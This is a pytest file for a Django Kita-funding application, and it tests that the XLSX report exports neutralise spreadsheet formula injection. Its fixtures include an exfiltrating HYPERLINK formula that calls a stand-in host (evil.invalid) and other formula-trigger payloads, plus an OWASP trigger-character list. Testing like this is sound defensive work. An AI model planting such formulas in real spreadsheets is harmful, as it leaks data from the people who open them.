"""Every XLSX export of the reports neutralises formulas (issue 13, finding 6).

A Kita named ``=HYPERLINK(...)``, a Sozialraum ``@SUM(1)``, a Träger ``-2``, a line's
qualification ``+1`` and justification ``\\t=1``: each arrives with the ``'`` prefix as a
text cell, while indices, percentages, FTE and euros stay numeric cells.
"""

from io import BytesIO

import pytest
from openpyxl import load_workbook

from allocation.models import AllocationLine, PlanState
from sozialraeume.models import Kita, Sozialraum, Traeger

# OWASP's list, spelled out here so the test does not lean on the code under test.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

pytestmark = pytest.mark.django_db

EVIL_KITA = '=HYPERLINK("http://evil.invalid/?x="&A1;"x")'
EVIL_SOZIALRAUM = "@SUM(1)"
EVIL_TRAEGER = "-2"


@pytest.fixture
def evil_city(city):
    line = (
        AllocationLine.objects.filter(
            plan__budget_year=city.budget_year, plan__state=PlanState.APPROVED
        )
        .select_related("kita__sozialraum", "kita__traeger")
        .first()
    )
    kita = line.kita
    Kita.objects.filter(pk=kita.pk).update(name=EVIL_KITA)
    Sozialraum.objects.filter(pk=kita.sozialraum_id).update(name=EVIL_SOZIALRAUM)
    Traeger.objects.filter(pk=kita.traeger_id).update(name=EVIL_TRAEGER)
    AllocationLine.objects.filter(pk=line.pk).update(qualification="+1", justification="\t=1")
    return city


def _sheets(client, city, url):
    client.force_login(city.users["jugendamt"])
    response = client.get(url)
    assert response.status_code == 200
    return load_workbook(BytesIO(response.content))


def _assert_no_live_text(book):
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    assert cell.value[:1] not in FORMULA_TRIGGERS, (ws.title, cell.coordinate)


def _texts(ws) -> set:
    return {c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def test_kita_index_export_prefixes_names_and_keeps_indices_numeric(client, evil_city):
    book = _sheets(
        client, evil_city, f"/berichte/export/indizes-kitas/{evil_city.survey_round.pk}.xlsx"
    )
    _assert_no_live_text(book)
    ws = book.worksheets[0]
    assert {"'" + EVIL_KITA, "'" + EVIL_SOZIALRAUM, "'" + EVIL_TRAEGER} <= _texts(ws)
    evil = next(r for r in ws.iter_rows(min_row=2) if r[1].value == "'" + EVIL_KITA)
    assert [c.data_type for c in evil[3:8]] == ["n"] * 5  # AB, SL, FM, IN, Gesamtindex
    assert all(isinstance(c.value, float) for c in evil[3:8])


def test_sozialraum_index_export_prefixes_names_and_keeps_shares_numeric(client, evil_city):
    book = _sheets(
        client, evil_city, f"/berichte/export/indizes-sozialraeume/{evil_city.survey_round.pk}.xlsx"
    )
    _assert_no_live_text(book)
    ws = book.worksheets[0]
    evil = next(r for r in ws.iter_rows(min_row=2) if r[0].value == "'" + EVIL_SOZIALRAUM)
    assert all(c.data_type == "n" for c in evil[1:])
    assert evil[6].number_format == "0.00%"


def test_lines_export_prefixes_texts_and_keeps_fte_and_euros_numeric(client, evil_city):
    book = _sheets(client, evil_city, "/berichte/export/verteilung/2027.xlsx")
    _assert_no_live_text(book)
    ws = book.worksheets[0]
    evil = next(r for r in ws.iter_rows(min_row=2) if r[2].value == "'" + EVIL_KITA)
    assert evil[0].value == "'" + EVIL_SOZIALRAUM
    assert evil[3].value == "'" + EVIL_TRAEGER
    assert evil[6].value == "'+1"
    assert evil[10].value == "'\t=1"
    assert evil[5].data_type == "n"  # FTE
    assert [c.data_type for c in evil[7:10]] == ["n", "n", "n"]  # euros
    assert evil[7].value == pytest.approx(float(evil[8].value + evil[9].value))


def test_proof_of_use_xlsx_prefixes_texts_and_keeps_sums_numeric(client, evil_city):
    from sozialraeume.models import Kita
    from tests.positions.factories import make_position

    make_position(budget_year=evil_city.budget_year, kita=Kita.objects.get(name=EVIL_KITA))
    book = _sheets(client, evil_city, "/berichte/export/verwendungsnachweis/2027.xlsx")
    _assert_no_live_text(book)
    (position,) = book["Stellen"].iter_rows(min_row=2)
    assert [c.value for c in position[1:4]] == [
        "'" + EVIL_SOZIALRAUM,
        "'" + EVIL_KITA,
        "'" + EVIL_TRAEGER,
    ]
    assert [c.data_type for c in position[8:12]] == ["n", "n", "n", "n"]
    sheet = book["Sozialräume"]
    rows = list(sheet.iter_rows(min_row=2))
    evil = next(r for r in rows if r[0].value == "'" + EVIL_SOZIALRAUM)
    assert all(c.data_type == "n" for c in evil[1:] if c.value is not None)
    assert rows[-1][0].value == "Summe"
    assert all(c.data_type == "n" for c in rows[-1][1:] if c.value is not None)
